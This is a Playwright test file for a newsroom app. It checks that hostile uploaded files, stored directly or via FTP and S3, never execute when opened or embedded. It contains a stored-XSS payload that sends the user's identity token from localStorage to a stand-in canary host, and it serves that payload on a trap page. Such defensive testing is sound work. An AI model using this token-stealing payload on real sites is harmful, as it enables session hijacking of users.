// Malicious files, uploaded in both ways and opened by their addresses, alone and in a page of our own origin without any
// policy: none runs, and none obtains the token. With HOSTILE_STORES=1 they pass through an FTP server and an S3 store, on
// a separate server.
import type { BrowserContext, Page } from '@playwright/test'
import { type HostileFile, hostileFiles } from '../apps/server/src/test/media/hostile-files.ts'
import { expect, signIn, test, userMenu } from './newsroom.ts'
import { startServer } from './server.ts'

interface Door {
  address: string
  token: string
  /** Bit mask of the specification: 1 file, 2 ftp, 4 cloud. */
  method: string
}

/** Uploads in one request; returns the address of the stored file, null if it was refused. */
async function inOnePiece({ address, token, method }: Door, file: HostileFile): Promise<string | null> {
  const form = new FormData()
  form.append('method', method)
  form.append('type', file.type)
  form.append('file', new Blob([new Uint8Array(file.bytes)], { type: file.said }), file.name)
  const answer = await fetch(`${address}/storage/upload`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, siteid: '4' },
    body: form,
  })
  return pathIn(answer, file)
}

async function inPieces({ address, token, method }: Door, file: HostileFile): Promise<string | null> {
  const own = { authorization: `Bearer ${token}`, siteid: '4', 'tus-resumable': '1.0.0' }
  const pairs = Object.entries({ filename: file.name, type: file.type, method })
  const announced = await fetch(`${address}/storage/resumable`, {
    method: 'POST',
    headers: {
      ...own,
      'upload-length': String(file.bytes.length),
      'upload-metadata': pairs.map(([key, value]) => `${key} ${btoa(value)}`).join(),
    },
  })
  const place = address + announced.headers.get('location')
  const sent = await fetch(place, {
    method: 'PATCH',
    headers: { ...own, 'content-type': 'application/offset+octet-stream', 'upload-offset': '0' },
    body: new Uint8Array(file.bytes),
  })
  return pathIn(sent.ok ? await fetch(place, { headers: own }) : sent, file)
}

async function pathIn(answer: Response, { name, mime }: HostileFile): Promise<string | null> {
  const { relativePath } = (await answer.json()) as { relativePath?: string }
  expect([name, answer.status < 500, relativePath !== undefined]).toEqual([name, true, mime !== undefined])
  return relativePath ?? null
}

async function expectNothingRan(page: Page): Promise<void> {
  for (const frame of page.frames()) expect(await frame.evaluate('globalThis.__pwn')).toBeUndefined()
}

/** Opens a stored file by its address, like a link in a message; a download opens no page. */
async function open(page: Page, address: string): Promise<void> {
  await page.goto(address).catch((error: Error) => {
    if (!/Download is starting|ERR_ABORTED/.test(error.message)) throw error
  })
  await expectNothingRan(page)
}

test('hostile files run nowhere, whichever way they were uploaded and however they are opened', async ({
  browser,
  baseURL,
  passOf,
}) => {
  const stores = process.env.HOSTILE_STORES === '1' ? await withStores() : null
  const address = stores?.address ?? baseURL ?? ''
  const context = await browser.newContext({
    baseURL: address,
    locale: 'tr-TR',
    ...(!stores && { storageState: await passOf('editor') }),
  })
  const page = await context.newPage()
  await page.goto('/')
  if (stores) await signIn(page, 'editor')
  await expect(userMenu(page)).toBeVisible()
  const token = await page.evaluate(() => localStorage.getItem('identityToken') ?? '')
  const told: string[] = []
  await context.route('http://canary.test/**', (route) => {
    told.push(route.request().url())
    return route.fulfill({ body: '' })
  })
  const script = (door: string) =>
    `window.__pwn=1;fetch('http://canary.test/${door}?'+localStorage.identityToken)`

  const paths: string[] = []
  for (const [method, bring] of [
    [stores ? '4' : '1', inOnePiece],
    [stores ? '2' : '1', inPieces],
  ] as const)
    for (const file of await hostileFiles(script(`${bring.name}/${method}`)))
      paths.push(...[await bring({ address, token, method }, file)].filter((path) => path !== null))
  expect(paths.length).toBeGreaterThan(7)

  for (const path of paths) await open(page, path)
  await open(page, `/image-resize?uri=${paths[0]}&width=80`)
  await probe(context, page, paths)
  expect(told).toEqual([])
  // Verifies the trap itself: in a page without protection, the same content does run.
  await page.goto('/probe-of-the-trap')
  await expect.poll(() => told).toEqual([expect.stringContaining(token)])
  await context.close()
  await stores?.close()

  async function probe(context: BrowserContext, page: Page, paths: readonly string[]): Promise<void> {
    const body = paths
      .map((path) =>
        [
          ...[`<script src="${path}"></script>`, `<script type="module" src="${path}"></script>`],
          ...[`<iframe src="${path}"></iframe>`, `<object data="${path}"></object>`, `<embed src="${path}">`],
          ...[
            `<img src="${path}">`,
            `<video src="${path}"></video>`,
            `<link rel="stylesheet" href="${path}">`,
          ],
        ].join(''),
      )
      .join('')
    const html = { contentType: 'text/html' }
    await context.route('**/probe', (route) => route.fulfill({ ...html, body }))
    await context.route('**/probe-of-the-trap', (route) =>
      route.fulfill({ ...html, body: `<script>${script('trap')}</script>` }),
    )
    await page.goto('/probe')
    await expectNothingRan(page)
  }
})

/** A server that also stores files on an FTP server and in an S3 store. */
async function withStores(): Promise<{ address: string; close(): Promise<void> }> {
  const { startFtpServer, startS3Server } = await import('../apps/server/src/test/media/remote-stores.ts')
  const [ftp, s3] = await Promise.all([startFtpServer(), startS3Server()])
  const server = await startServer({
    MANSET_UPLOAD_METHODS: 'file,ftp,cloud',
    MANSET_FTP_URL: `ftp://${ftp.settings.host}:${ftp.settings.port}${ftp.settings.folder}`,
    ...{ MANSET_FTP_USER: ftp.settings.user, MANSET_FTP_PASSWORD: ftp.settings.password },
    ...{ MANSET_S3_ENDPOINT: s3.settings.endpoint ?? '', MANSET_S3_BUCKET: s3.settings.bucket },
    ...{ MANSET_S3_ACCESS_KEY_ID: s3.settings.accessKeyId, MANSET_S3_PATH_STYLE: 'true' },
    ...{ MANSET_S3_SECRET_ACCESS_KEY: s3.settings.secretAccessKey, MANSET_S3_REGION: s3.settings.region },
  })
  return {
    address: server.address,
    async close() {
      await server.stop()
      await Promise.all([ftp.close(), s3.close()])
    },
  }
}
